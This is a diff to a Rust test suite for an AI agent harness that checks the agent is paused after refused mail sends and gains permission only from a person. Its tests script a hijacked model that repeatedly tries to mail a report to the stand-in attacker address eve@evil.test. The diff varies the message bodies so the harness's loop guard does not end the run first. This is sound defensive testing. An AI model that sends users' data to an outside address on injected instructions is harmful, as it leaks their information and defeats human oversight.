@@ -34,7 +34,11 @@ fn read() -> Turn {
 }
 
 fn send(to: &str) -> Turn {
-    Turn::call("mail__send_mail", json!({"to": to, "body": "the report"}))
+    say(to, "the report")
+}
+
+fn say(to: &str, body: &str) -> Turn {
+    Turn::call("mail__send_mail", json!({"to": to, "body": body}))
 }
 
 fn model(turns: impl IntoIterator<Item = Turn>) -> ScriptedModel {
@@ -130,7 +134,7 @@ fn d2_a_question_is_answered_once_for_exactly_what_it_shows_and_the_brain_waits(
     assert!(told.out.contains(&rests) && told.out.contains("warrant (drawn up by fixed rules): nothing"), "{told:?}");
     let lines = desk.autoshare(["show", &brain, "--json"]).json_lines();
     let grounds = lines.iter().find(|line| !line["grounds"].is_null()).unwrap();
-    assert_eq!(grounds["grounds"][0]["shared"], json!(["73912"]), "{grounds}");
+    assert_eq!(grounds["grounds"][0]["shared"], json!(["the code is 73912"]), "{grounds}");
     assert_eq!(grounds["grounds"][0]["sources"], json!([SOURCE]), "{grounds}");
 
     explained(&desk, &brain);
@@ -203,8 +207,9 @@ fn an_answer_for_the_run_needs_a_source() {
 #[test]
 fn e7_a_brain_that_keeps_asking_is_paused_alone_and_goes_on_when_a_person_says_so() {
     let desk = desk();
-    let eve = || send("eve@evil.test");
-    let hijacked = model([read(), eve(), eve(), eve(), Turn::text("I give up.")]);
+    // The loop guard would end one that says the same again and again.
+    let eve = |body: &str| say("eve@evil.test", body);
+    let hijacked = model([read(), eve("a"), eve("b"), eve("c"), Turn::text("I give up.")]);
     let paused = Ran::of(run(&desk, &hijacked, &[]).output().unwrap());
     assert_eq!(paused.code, Some(4), "{paused:?}");
     assert_eq!(paused.err.matches("Paused: it wants mail__send_mail after 2 refusals").count(), 1, "{paused:?}");
@@ -239,8 +244,8 @@ fn e7_a_brain_that_keeps_asking_is_paused_alone_and_goes_on_when_a_person_says_s
 #[test]
 fn further_words_of_a_person_widen_the_warrant_and_nothing_else_does() {
     let desk = desk();
-    let eve = || send("eve@evil.test");
-    let model = model([read(), eve(), eve(), eve(), eve(), Turn::text("Sent.")]);
+    let eve = |body: &str| say("eve@evil.test", body);
+    let model = model([read(), eve("a"), eve("b"), eve("c"), eve("d"), Turn::text("Sent.")]);
     let paused = Ran::of(run(&desk, &model, &[]).output().unwrap());
     assert_eq!(paused.code, Some(4), "{paused:?}");
     let brain = desk.brain();
